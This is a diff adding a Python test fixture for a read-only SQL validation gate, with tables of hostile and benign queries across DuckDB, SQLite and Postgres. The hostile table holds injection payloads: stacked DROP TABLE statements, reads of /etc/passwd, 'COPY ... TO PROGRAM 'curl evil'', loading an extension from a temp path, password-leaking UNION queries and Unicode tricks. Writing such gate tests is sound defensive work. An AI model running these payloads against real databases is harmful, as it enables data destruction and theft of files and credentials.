@@ -1,0 +1,412 @@
+"""The hostile-input table and the benign-but-tricky table, shared by the engine tests.
+
+Each hostile case names the issue codes any of which proves the gate caught it, or
+``LIMIT`` when the query is valid SQL that the *engine* must stop (runaway joins).
+``engines`` lists where the case applies (dialect-specific payloads run where they mean
+something).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+ALL = ("duckdb", "sqlite", "postgres")
+LIMIT = "LIMIT"
+MULTI = frozenset({"multiple_statements", "parse_error"})
+WRITE = frozenset({"statement_not_allowed", "not_read_only", "parse_error", "multiple_statements"})
+FUNC = frozenset({"function_not_allowed", "table_function_not_allowed"})
+TABLE = frozenset({"unknown_table", "table_function_not_allowed", "function_not_allowed"})
+HIDDEN = frozenset({"sensitive_column", "star_over_sensitive"})
+BAD = frozenset({"bad_character"})
+
+
+@dataclass(frozen=True)
+class Case:
+    """One SQL input, what must happen to it, and where it applies."""
+
+    group: str
+    sql: str
+    expect: frozenset[str] | str
+    engines: tuple[str, ...] = ALL
+
+    def ids(self, i: int) -> str:
+        """A readable, unique test id."""
+        return f"{self.group}-{i:03d}"
+
+
+def _c(group: str, sql: str, expect: frozenset[str] | str, *engines: str) -> Case:
+    return Case(group, sql, expect, engines or ALL)
+
+
+HOSTILE: list[Case] = [
+    # -- multiple statements ---------------------------------------------------------------
+    _c("multi", "SELECT 1; DROP TABLE orders", MULTI),
+    _c("multi", "SELECT id FROM orders; DELETE FROM orders", MULTI),
+    _c("multi", "SELECT id FROM orders;\nINSERT INTO orders (id) VALUES (1)", MULTI),
+    _c("multi", "SELECT 1; SELECT 2", MULTI),
+    _c("multi", "SELECT id FROM orders; -- harmless?\nUPDATE orders SET amount = 0", MULTI),
+    _c("multi", "/* x */ SELECT 1; ATTACH 'x.db' AS y", MULTI),
+    _c("multi", "SELECT 'a;b' AS s; DROP TABLE customers", MULTI),
+    _c("multi", "BEGIN; DELETE FROM orders; COMMIT", MULTI),
+    _c("multi", "SeLeCt id FrOm orders; dRoP tAbLe orders", MULTI),
+    _c("multi", "SELECT id FROM orders WHERE region = $$x$$; DROP TABLE orders", MULTI, "postgres"),
+    # -- DML / DDL, also hidden in CTEs, subqueries and behind comments ---------------------
+    _c("write", "DELETE FROM orders", WRITE),
+    _c("write", "UPDATE orders SET amount = 0", WRITE),
+    _c("write", "INSERT INTO orders (id) VALUES (1)", WRITE),
+    _c("write", "DROP TABLE orders", WRITE),
+    _c("write", "CREATE TABLE x AS SELECT id FROM orders", WRITE),
+    _c("write", "ALTER TABLE orders ADD COLUMN x INTEGER", WRITE),
+    _c("write", "TRUNCATE orders", WRITE, "duckdb", "postgres"),
+    _c("write", "CREATE TEMP TABLE t AS SELECT 1 AS a", WRITE),
+    _c("write", "CREATE VIEW v AS SELECT id FROM orders", WRITE),
+    _c("write", "CREATE INDEX i ON orders (id)", WRITE),
+    _c("write", "GRANT SELECT ON orders TO PUBLIC", WRITE, "postgres", "duckdb"),
+    _c("write", "REPLACE INTO orders (id) VALUES (1)", WRITE, "sqlite"),
+    _c("write", "VACUUM", WRITE),
+    _c("write", "EXPLAIN ANALYZE SELECT id FROM orders", WRITE, "duckdb", "postgres"),
+    _c("write", "/* SELECT */ DELETE FROM orders", WRITE),
+    _c("write", "-- just a comment\nDROP TABLE orders", WRITE),
+    _c(
+        "write",
+        "MERGE INTO orders USING customers ON orders.id = customers.id WHEN MATCHED THEN DELETE",
+        WRITE,
+        "postgres",
+        "duckdb",
+    ),
+    _c("write", "WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d", WRITE),
+    _c("write", "WITH u AS (UPDATE orders SET amount = 0 RETURNING id) SELECT id FROM u", WRITE),
+    _c(
+        "write",
+        "WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT id FROM i",
+        WRITE,
+    ),
+    _c("write", "SELECT id FROM (DELETE FROM orders RETURNING id) AS d", WRITE),
+    _c("write", "SELECT id INTO backup FROM orders", frozenset({"select_into", "parse_error"})),
+    _c(
+        "write",
+        "SELECT id FROM orders FOR UPDATE",
+        frozenset({"locking_clause", "parse_error"}),
+        "postgres",
+        "duckdb",
+    ),
+    _c("write", "DO $$ BEGIN DELETE FROM orders; END $$", WRITE, "postgres"),
+    _c("write", "CALL evil()", WRITE, "postgres", "duckdb"),
+    # -- file and network functions, per engine ------------------------------------------
+    _c("file", "SELECT * FROM read_csv('/etc/passwd')", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM read_csv_auto('/etc/passwd')", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM read_parquet('s3://bucket/x.parquet')", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM read_json('http://example.com/a.json')", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM read_text('/etc/hostname')", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM read_blob('/etc/hostname')", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM glob('/etc/*')", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM 'https://example.com/x.csv'", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM '/etc/passwd'", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM sqlite_scan('/tmp/x.db', 't')", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM postgres_scan('host=evil', 'public', 't')", TABLE, "duckdb"),
+    _c("file", "SELECT * FROM query('SELECT * FROM tablerag.chunks')", TABLE, "duckdb"),
+    _c("file", "SELECT getenv('HOME') AS h", FUNC, "duckdb"),
+    _c("file", "COPY orders TO '/tmp/out.csv'", WRITE, "duckdb", "postgres"),
+    _c("file", "COPY (SELECT name FROM customers) TO 'https://x/y'", WRITE, "duckdb"),
+    _c("file", "COPY orders FROM '/etc/passwd'", WRITE, "duckdb", "postgres"),
+    _c("file", "COPY orders TO PROGRAM 'curl evil'", WRITE, "postgres"),
+    _c("file", "EXPORT DATABASE '/tmp/x'", WRITE, "duckdb"),
+    _c("file", "INSTALL httpfs", WRITE, "duckdb"),
+    _c("file", "LOAD httpfs", WRITE, "duckdb"),
+    _c("file", "ATTACH '/tmp/x.db' AS x", WRITE, "duckdb", "sqlite"),
+    _c("file", "ATTACH DATABASE '/tmp/evil.db' AS evil", WRITE, "sqlite"),
+    _c("file", "SELECT pg_read_file('/etc/passwd') AS f", FUNC, "postgres"),
+    _c("file", "SELECT pg_read_binary_file('/etc/passwd') AS f", FUNC, "postgres"),
+    _c("file", "SELECT * FROM pg_ls_dir('.')", TABLE, "postgres"),
+    _c("file", "SELECT lo_import('/etc/passwd') AS o", FUNC, "postgres"),
+    _c("file", "SELECT lo_export(1, '/tmp/x') AS o", FUNC, "postgres"),
+    _c("file", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", TABLE, "postgres"),
+    _c(
+        "file",
+        "SELECT query_to_xml('SELECT * FROM secrets', true, true, '') AS x",
+        FUNC,
+        "postgres",
+    ),
+    _c("file", "SELECT load_extension('/tmp/evil.so') AS x", FUNC, "sqlite"),
+    _c("file", "SELECT readfile('/etc/passwd') AS x", FUNC, "sqlite"),
+    _c("file", "SELECT writefile('/tmp/x', 'y') AS x", FUNC, "sqlite"),
+    _c("file", "SELECT * FROM fsdir('/etc')", TABLE, "sqlite"),
+    # -- sleep and resource exhaustion ----------------------------------------------------
+    _c("dos", "SELECT pg_sleep(100) AS s", FUNC, "postgres"),
+    _c("dos", "SELECT pg_sleep_for('1 hour') AS s", FUNC, "postgres"),
+    _c("dos", "SELECT sleep(10) AS s", FUNC),
+    _c(
+        "dos",
+        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
+        frozenset({"recursive_cte"}),
+    ),
+    _c(
+        "dos",
+        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r) SELECT n FROM r",
+        frozenset({"recursive_cte"}),
+    ),
+    _c(
+        "dos",
+        "SELECT count(*) FROM orders a, orders b, orders c "
+        "WHERE a.amount + b.amount + c.amount > 0.5",
+        LIMIT,
+    ),
+    _c(
+        "dos",
+        "SELECT max(a.amount * b.amount - c.amount) FROM orders a CROSS JOIN orders b "
+        "CROSS JOIN orders c",
+        LIMIT,
+    ),
+    _c(
+        "dos",
+        "SELECT a.id FROM orders a JOIN orders b ON a.amount <> b.amount "
+        "JOIN orders c ON b.id <> c.id ORDER BY a.id DESC",
+        LIMIT,
+    ),
+    # -- catalog and settings access -------------------------------------------------------
+    _c("catalog", "SELECT * FROM tablerag.chunks", TABLE, "duckdb"),
+    _c("catalog", "SELECT o.id FROM data.orders AS o, tablerag.sources AS s", TABLE, "duckdb"),
+    _c("catalog", "SELECT * FROM main.secrets", TABLE, "duckdb"),
+    _c("catalog", "SELECT * FROM secrets", TABLE),
+    _c("catalog", "SELECT id FROM orders WHERE id IN (SELECT id FROM secrets)", TABLE),
+    _c("catalog", "SELECT * FROM information_schema.tables", TABLE),
+    _c("catalog", "SELECT * FROM pg_catalog.pg_tables", TABLE, "postgres", "duckdb"),
+    _c("catalog", "SELECT * FROM pg_shadow", TABLE, "postgres"),
+    _c("catalog", "SELECT * FROM pg_stat_activity", TABLE, "postgres"),
+    _c("catalog", "SELECT * FROM sqlite_master", TABLE, "sqlite"),
+    _c("catalog", "SELECT * FROM duckdb_settings()", TABLE, "duckdb"),
+    _c("catalog", "SELECT * FROM duckdb_tables()", TABLE, "duckdb"),
+    _c("catalog", "SELECT current_setting('data_directory') AS d", FUNC, "postgres", "duckdb"),
+    _c("catalog", "SELECT set_config('statement_timeout', '0', false) AS s", FUNC, "postgres"),
+    _c("catalog", "SELECT nextval('orders_id_seq') AS n", FUNC, "postgres", "duckdb"),
+    _c("catalog", "SELECT version() AS v", FUNC, "postgres", "duckdb"),
+    _c("catalog", "SELECT current_user AS u", FUNC | frozenset({"unknown_column"}), "postgres"),
+    _c("catalog", "SET enable_external_access = true", WRITE, "duckdb"),
+    _c("catalog", "SET statement_timeout = 0", WRITE, "postgres"),
+    _c("catalog", "RESET ALL", WRITE, "postgres", "duckdb"),
+    _c("catalog", "PRAGMA database_list", WRITE, "sqlite", "duckdb"),
+    _c("catalog", "PRAGMA writable_schema = ON", WRITE, "sqlite"),
+    _c("catalog", "SHOW TABLES", WRITE, "duckdb"),
+    _c("catalog", "DESCRIBE customers", WRITE, "duckdb"),
+    _c("catalog", "SELECT password FROM customers", HIDDEN),
+    _c("catalog", "SELECT * FROM customers", HIDDEN),
+    _c("catalog", "SELECT c.* FROM customers AS c", HIDDEN),
+    _c("catalog", "SELECT phone AS p FROM customers", HIDDEN),
+    _c("catalog", "SELECT x FROM (SELECT email AS x FROM customers) AS s", HIDDEN),
+    _c("catalog", "SELECT customers FROM customers", frozenset({"unknown_column"})),
+    _c("catalog", "SELECT password FROM customers, (SELECT 1 AS one) AS d", HIDDEN),
+    _c(
+        "catalog",
+        "SELECT password FROM customers CROSS JOIN generate_series(1, 2) AS g(n)",
+        HIDDEN,
+        "duckdb",
+        "postgres",
+    ),
+    _c("catalog", "SELECT c.name FROM customers c JOIN customers d USING (phone)", HIDDEN),
+    _c("catalog", "SELECT name FROM customers NATURAL JOIN orders", HIDDEN),
+    _c("catalog", "SELECT COLUMNS('pass.*') FROM customers", FUNC, "duckdb"),
+    _c(
+        "catalog",
+        "SELECT id FROM orders WHERE amount > $1",
+        frozenset({"parameter", "parse_error"}),
+        "postgres",
+    ),
+    # -- injection through the question or through sample values copied into SQL --------
+    _c("inject", "SELECT id FROM orders WHERE region = ''; DROP TABLE orders; --'", MULTI),
+    _c("inject", "SELECT id FROM orders WHERE region = 'Robert'); DROP TABLE orders;--'", MULTI),
+    _c("inject", "SELECT id FROM orders WHERE region = 'a' OR 1=1; SELECT * FROM secrets", MULTI),
+    _c(
+        "inject",
+        "SELECT region FROM orders WHERE region = 'x' UNION SELECT password FROM customers",
+        HIDDEN,
+    ),
+    _c(
+        "inject",
+        "SELECT name FROM customers WHERE name = 'x' UNION ALL SELECT email FROM customers",
+        HIDDEN,
+    ),
+    _c("inject", "SELECT (SELECT password FROM customers LIMIT 1) AS leak", HIDDEN),
+    _c("inject", "SELECT name FROM customers WHERE phone LIKE '138%'", HIDDEN),
+    _c("inject", "SELECT name FROM customers ORDER BY password", HIDDEN),
+    # -- encoding tricks ---------------------------------------------------------------------
+    _c("encoding", "SELECT id FROM orders\x00; DROP TABLE orders", BAD),
+    _c("encoding", "SELECT id FROM orders\u202e; DROP TABLE orders", BAD),
+    _c("encoding", "SELECT id FROM orders;\u200bDROP TABLE orders", BAD),
+    _c("encoding", "DEL\u200bETE FROM orders", BAD),
+    _c("encoding", "\ufeffDELETE FROM orders", BAD),
+    _c("encoding", "SELECT id FROM orders\x1b[2K", BAD),
+    _c(
+        "encoding",
+        "SELECT id FROM orders；DROP TABLE orders",
+        frozenset({"parse_error", "unknown_table", "multiple_statements"}),
+    ),
+    _c(
+        "encoding",
+        "ＳＥＬＥＣＴ id FROM orders",
+        frozenset({"parse_error", "statement_not_allowed"}),
+    ),
+    _c(
+        "encoding",
+        'SELECT "pass""word" FROM customers',
+        frozenset({"unknown_column"}),
+        "duckdb",
+        "postgres",
+    ),
+    _c("encoding", 'SELECT "password" FROM customers', HIDDEN),
+    _c(
+        "encoding",
+        'SELECT U&"\\0070\\0061ssword" FROM customers',
+        frozenset({"parse_error", "unknown_column", "sensitive_column"}),
+        "postgres",
+    ),
+    _c("encoding", "SELECT id FROM orders WHERE region = 'x' -- \n; DROP TABLE orders", MULTI),
+]
+
+BENIGN: list[Case] = [
+    _c(
+        "agg",
+        "SELECT region, sum(amount) AS total FROM orders GROUP BY region ORDER BY total DESC",
+        "ok",
+    ),
+    _c(
+        "cte",
+        "WITH t AS (SELECT customer_id, sum(amount) AS s FROM orders GROUP BY customer_id) "
+        "SELECT customer_id, s FROM t WHERE s > 10 ORDER BY customer_id",
+        "ok",
+    ),
+    _c("cte", "WITH secrets AS (SELECT id FROM orders WHERE id < 5) SELECT id FROM secrets", "ok"),
+    _c(
+        "cte",
+        "WITH a AS (SELECT id FROM orders), b AS (SELECT id FROM a WHERE id < 3) "
+        "SELECT count(*) AS n FROM b",
+        "ok",
+    ),
+    _c(
+        "window",
+        "SELECT id, amount, rank() OVER (PARTITION BY region ORDER BY amount DESC) AS r "
+        "FROM orders",
+        "ok",
+    ),
+    _c(
+        "window",
+        "SELECT id, sum(amount) OVER (ORDER BY id ROWS BETWEEN 2 PRECEDING AND "
+        "CURRENT ROW) AS rolling FROM orders",
+        "ok",
+    ),
+    _c("window", "SELECT region, row_number() OVER (ORDER BY region) AS rn FROM orders", "ok"),
+    _c(
+        "strings",
+        "SELECT upper(region) AS u, lower(region) AS l, trim(region) AS t, "
+        "length(region) AS n FROM orders",
+        "ok",
+    ),
+    _c(
+        "strings",
+        "SELECT left(region, 2) AS l, right(region, 1) AS r FROM orders",
+        "ok",
+        "duckdb",
+        "postgres",
+    ),
+    _c(
+        "strings",
+        "SELECT replace(region, 'delete', 'drop') AS s FROM orders "
+        "WHERE region LIKE '%select%' OR region = 'DROP TABLE orders'",
+        "ok",
+    ),
+    _c("strings", "SELECT substr(region, 1, 2) AS s FROM orders", "ok", "duckdb", "sqlite"),
+    _c("strings", "SELECT 'a;b' AS s, id FROM orders LIMIT 1", "ok"),
+    _c("strings", "SELECT '--not a comment' AS s, '/* nor this */' AS t FROM orders LIMIT 1", "ok"),
+    _c("strings", "SELECT 'a' || chr(59) || 'DROP TABLE orders' AS s", "ok", "duckdb", "postgres"),
+    _c(
+        "comments",
+        "-- top regions\nSELECT region /* the region */, count(*) AS n FROM orders GROUP BY region",
+        "ok",
+    ),
+    _c("comments", "SELECT id FROM orders /*! ; DROP TABLE orders */ LIMIT 2", "ok"),
+    _c("quoted", 'SELECT "id", "amount" FROM "orders" WHERE "id" < 3', "ok"),
+    _c("quoted", 'SELECT count(id) AS "select", max(amount) AS "from" FROM orders', "ok"),
+    _c("chinese", "SELECT 地区, sum(金额) AS 合计 FROM 销售 GROUP BY 地区", "ok"),
+    _c("chinese", 'SELECT "地区" FROM "销售" WHERE "金额" > 60 ORDER BY "金额"', "ok"),
+    _c("chinese", "SELECT s.地区 AS 区域 FROM 销售 AS s WHERE s.金额 >= 100", "ok"),
+    _c(
+        "case",
+        "SELECT id, CASE WHEN amount > 50 THEN 'big' ELSE 'small' END AS size FROM orders",
+        "ok",
+    ),
+    _c(
+        "subquery",
+        "SELECT id FROM orders o WHERE amount > (SELECT avg(amount) FROM orders i "
+        "WHERE i.region = o.region)",
+        "ok",
+    ),
+    _c(
+        "subquery",
+        "SELECT name FROM customers c WHERE EXISTS (SELECT 1 FROM orders o "
+        "WHERE o.customer_id = c.id)",
+        "ok",
+    ),
+    _c(
+        "subquery",
+        "SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders "
+        "WHERE amount > 100)",
+        "ok",
+    ),
+    _c(
+        "subquery",
+        "SELECT r, n FROM (SELECT region AS r, count(*) AS n FROM orders "
+        "GROUP BY region) AS t WHERE n > 0",
+        "ok",
+    ),
+    _c("setop", "SELECT region FROM orders UNION SELECT city FROM customers", "ok"),
+    _c("setop", "SELECT customer_id FROM orders INTERSECT SELECT id FROM customers", "ok"),
+    _c("setop", "SELECT id FROM customers EXCEPT SELECT customer_id FROM orders", "ok"),
+    _c(
+        "join",
+        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id "
+        "WHERE c.city = 'Beijing'",
+        "ok",
+    ),
+    _c(
+        "join",
+        "SELECT c.name, coalesce(sum(o.amount), 0) AS total FROM customers c "
+        "LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.name",
+        "ok",
+    ),
+    _c(
+        "join",
+        "SELECT orders.id, customers.city FROM orders, customers "
+        "WHERE orders.customer_id = customers.id AND orders.id < 10",
+        "ok",
+    ),
+    _c("hidden-ok", "SELECT count(*) AS n FROM customers", "ok"),
+    _c("hidden-ok", "SELECT count(DISTINCT city) AS n, min(name) AS first FROM customers", "ok"),
+    _c("hidden-ok", "SELECT name, city FROM customers ORDER BY name LIMIT 5", "ok"),
+    _c(
+        "group",
+        "SELECT region, count(*) AS n FROM orders GROUP BY region HAVING count(*) > 1",
+        "ok",
+    ),
+    _c("group", "SELECT upper(region) AS r, count(*) AS n FROM orders GROUP BY r", "ok"),
+    _c("misc", "SELECT CAST(amount AS INTEGER) AS a FROM orders", "ok"),
+    _c(
+        "misc",
+        "SELECT id FROM orders WHERE region IN ('north', 'south') AND amount BETWEEN 1 AND 100",
+        "ok",
+    ),
+    _c(
+        "misc",
+        "SELECT round(avg(amount), 2) AS a, coalesce(max(region), 'none') AS m FROM orders",
+        "ok",
+    ),
+    _c("misc", "SELECT DISTINCT region FROM orders ORDER BY region", "ok"),
+    _c("misc", "SELECT * FROM orders LIMIT 3", "ok"),
+    _c("misc", "SELECT o.* FROM orders o WHERE o.id < 3", "ok"),
+    _c("misc", "SELECT id FROM orders;", "ok"),
+    _c("misc", "select ID from ORDERS where Region = 'north'", "ok"),
+    _c(
+        "misc",
+        "SELECT order_date, count(*) AS n FROM orders WHERE order_date >= '2024-06-01' "
+        "GROUP BY order_date",
+        "ok",
+    ),
+]
